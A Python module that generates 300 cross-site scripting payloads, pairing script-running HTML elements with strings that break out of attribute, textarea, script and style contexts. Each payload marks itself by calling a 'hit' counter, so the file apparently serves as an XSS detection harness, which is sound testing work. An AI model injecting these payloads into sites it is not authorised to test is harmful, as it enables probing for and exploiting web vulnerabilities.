"""Three hundred pieces of markup that run a script wherever they are taken for markup."""

from __future__ import annotations

ELEMENTS = (
    "<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<svg/onload={}>",
    "<body onload={}>", "<input autofocus onfocus={}>", "<details open ontoggle={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<video><source onerror={}></video>",
    "<audio src=x onerror={}></audio>", "<marquee onstart={}>x</marquee>",
    "<style onload={}></style>", "<object data=javascript:{}></object>",
    "<iframe src=javascript:{}></iframe>", "<math><mtext><img src=x onerror={}></math>",
    "<select autofocus onfocus={}></select>", "<textarea autofocus onfocus={}></textarea>",
    "<a href=javascript:{}>x</a>", "<form action=javascript:{}><button>x</button></form>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>", "<svg><script>{}</script></svg>",
    "<link rel=stylesheet href=x onerror={}>", "<embed src=javascript:{}>",
    "<isindex type=image src=x onerror={}>", "<img srcset=x onerror={}>",
)  # fmt: skip
BREAKERS = (
    "", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "--></noscript>",
    "</a></li></td>", '"]}}</dd>', "\u0000\u202e", "{{7*7}}",
)  # fmt: skip
"""What ends the place in which the markup stands, so that it counts as markup."""
HITS = "window.hits = []; window.hit = number => window.top.hits.push(number);"
"""Runs before a page's own scripts: what markup calls when it runs."""
PAYLOADS = [
    breaker + element.format(f"hit({number * len(BREAKERS) + place})")
    for number, element in enumerate(ELEMENTS)
    for place, breaker in enumerate(BREAKERS)
]
ALL = " ".join(PAYLOADS)
"""All of them in one text, 16,000 characters: a page that shows it shows every one."""


def in_pieces(longest: int) -> list[str]:
    """Return all of them in texts of at most so many characters, for fields that take less."""
    pieces = [""]
    for payload in PAYLOADS:
        joined = f"{pieces[-1]} {payload}".strip()
        if len(joined) <= longest:
            pieces[-1] = joined
        else:
            pieces.append(payload[:longest])
    return pieces
